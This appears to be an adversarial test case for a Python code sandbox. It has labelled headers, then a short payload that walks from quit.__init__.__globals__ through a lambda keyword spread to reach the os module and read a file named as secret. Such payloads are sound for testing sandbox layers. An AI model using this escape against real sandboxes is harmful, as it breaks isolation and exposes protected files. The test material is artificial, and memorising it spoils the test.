# class: object graph walk
# technique: a forbidden attribute in keywords spread into a call
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = (lambda **names: names)(**quit.__init__.__globals__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
